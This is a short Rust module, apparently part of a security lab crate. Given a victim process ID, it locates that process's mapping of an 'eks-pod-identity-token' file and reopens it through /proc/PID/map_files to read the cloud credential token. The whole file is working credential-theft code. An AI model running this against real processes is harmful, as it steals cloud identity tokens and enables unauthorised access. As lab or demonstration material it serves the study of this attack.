//! What the victim has mapped is opened again, through its link in `/proc/PID/map_files`.

use std::fs::File;

use anyhow::{Context, Result};
use lab::sys::memory::mapped_at;

use crate::common::read;

pub fn run(args: &[String]) -> Result<()> {
    let pid = args.first().context("no pid")?.parse()?;
    let range = mapped_at(pid, "eks-pod-identity-token")?;
    read(File::open(format!("/proc/{pid}/map_files/{range}"))?)
}
